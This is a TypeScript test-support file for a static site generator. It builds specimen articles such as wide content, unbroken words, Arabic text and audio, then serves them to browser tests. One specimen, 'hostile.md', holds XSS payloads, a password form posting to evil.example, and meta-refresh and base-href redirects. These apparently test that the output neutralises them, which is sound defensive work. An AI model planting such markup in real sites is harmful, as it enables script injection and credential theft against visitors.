import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { encode } from "fast-png";
import { onTestFinished } from "vitest";
import { build } from "../../../src/build/build.ts";
import { type Files, temporaryFolder } from "../../support/folder.ts";
import { listen } from "../../support/listen.ts";
import { PIXEL } from "../../support/picture.ts";
import { article, SITE, serve } from "../../support/serve.ts";

/** The content that Broadsheet comes with. */
const OWN_CONTENT = resolve(import.meta.dirname, "../../../content");

/** A sound file (RIFF WAVE) of nothing. */
const SILENCE = Buffer.from(
  "RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x40\x1f\0\0\x40\x1f\0\0\x01\0\x08\0data\0\0\0\0",
  "latin1",
);

/** A word for which most screens are too narrow. */
const UNBROKEN = "Donaudampfschifffahrts".repeat(6);

/** What no article of ours has, or not all of it. */
const SPECIMENS: Files = {
  "site.md": SITE.replace("title:", "language: en\nicon: dot.png\ntitle:"),
  "dot.png": PIXEL,
  "tall.png": encode({ width: 300, height: 900, data: new Uint8Array(270_000).fill(99), channels: 1 }),
  "wide.png": encode({ width: 3000, height: 20, data: new Uint8Array(60_000).fill(99), channels: 1 }),
  "articles/wide.md": article(
    {
      title: "Wide things",
      subtitle: "What does not fit",
      publish_date: "2026-01-05",
      tags: "[width, code]",
    },
    `A formula:

$$
${"a + b + c + d + e + f + g + h + ".repeat(4)} z
$$

\`\`\`js
${"const longName = anotherLongName; ".repeat(8)}
\`\`\`

| ${"column | ".repeat(12)}
|${"---|".repeat(12)}
| ${"value | ".repeat(12)}

A_very_long_word_${"without_any_place_to_break_".repeat(8)}

<https://gazette.example/${"a-very-long-address/".repeat(10)}>

<figure><img src="../wide.png" alt="A stripe"><figcaption>Wide</figcaption></figure>

<details><summary>More</summary><p>Hidden</p></details>

A note.[^1]

[^1]: At the foot.
`,
  ),
  "articles/unbroken.md": article(
    {
      title: UNBROKEN,
      subtitle: UNBROKEN,
      description: UNBROKEN,
      author: UNBROKEN,
      tags: `[${UNBROKEN}]`,
      cta: UNBROKEN,
      publish_date: "2026-01-04T12:00:00Z",
    },
    `${UNBROKEN}\n\n## ${UNBROKEN}\n`,
  ),
  "articles/arabic.md": article(
    {
      title: "خلاصة بلا حساب",
      subtitle: "لماذا بقي الاشتراك مهذبًا",
      language: "ar",
      publish_date: "2026-01-04",
      tags: "[خلاصات]",
    },
    "نص عربي مع `code` وكلمة English.\n\n- أولًا\n- ثانيًا\n\n> اقتباس\n\n| أ | ب |\n|---|---|\n| ١ | ٢ |\n",
  ),
  "articles/hostile.md": article(
    {
      title: "'<script>window.ran = 1</script>'",
      subtitle: '\'"><img src=x onerror="window.ran = 1">\'',
      description: "'<svg onload=\"window.ran = 1\">'",
      author: "'<b onclick=\"window.ran = 1\">Eve</b>'",
      tags: "['<i>tag</i>']",
      cta: "'<script>window.ran = 1</script>'",
      publish_date: "2026-01-03",
    },
    `<script>window.ran = 1</script>
<img src="../dot.png" onload="window.ran = 1" onerror="window.ran = 1">
<a href="javascript:window.ran = 1" id="click">click</a>
<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>
<svg onload="window.ran = 1"><script>window.ran = 1</script></svg>
<style>body { display: none }</style>
<p style="position: fixed; inset: 0">over everything</p>
<form action="https://evil.example/"><input name="password"><button>Send</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">
`,
  ),
  "articles/episode.md": article({ title: "An episode", publish_date: "2026-01-02", audio: "silence.wav" }),
  "articles/silence.wav": SILENCE,
  "articles/plain.md": article({ title: "Plain", publish_date: "2026-01-02", author: "Ben" }),
  ...Object.fromEntries(
    Array.from({ length: 12 }, (_, i) => [
      `articles/old${i}.md`,
      article({
        title: `Old ${i}`,
        publish_date: `2025-0${1 + (i % 9)}-01`,
        ...(i % 2 && { heroImage: "../tall.png" }),
      }),
    ]),
  ),
};

export interface BrowsedSite {
  /** Without a final slash. */
  readonly origin: string;
  /** Sets the clock. */
  setTime(instant: string): void;
}

/** @returns the folder of the output */
function buildInto(folder: string, content: string): string {
  const out = join(folder, "dist");
  const errors = build({ content, out }).problems.filter(({ severity }) => severity === "error");
  if (errors.length > 0) throw new Error(JSON.stringify(errors, null, 2));
  return out;
}

/** Serves an output to browsers until the test is over. */
async function browse(out: string, now: string): Promise<BrowsedSite> {
  const served = serve(out);
  served.setTime(now);
  const { origin, close } = await listen(served, out);
  onTestFinished(close);
  return { origin, setTime: served.setTime };
}

export function browseSpecimens(more: Files = {}): Promise<BrowsedSite> {
  const content = temporaryFolder({ ...SPECIMENS, ...more });
  return browse(buildInto(temporaryFolder(), content), "2026-06-01T00:00:00Z");
}

/** Built once for all tests of a process. */
let ownOutput: string | undefined;

export function browseOwnContent(): Promise<BrowsedSite> {
  if (!ownOutput) {
    const folder = mkdtempSync(join(tmpdir(), "broadsheet-"));
    process.on("exit", () => rmSync(folder, { recursive: true, force: true }));
    ownOutput = buildInto(folder, OWN_CONTENT);
  }
  return browse(ownOutput, "2026-11-30T00:00:00Z");
}
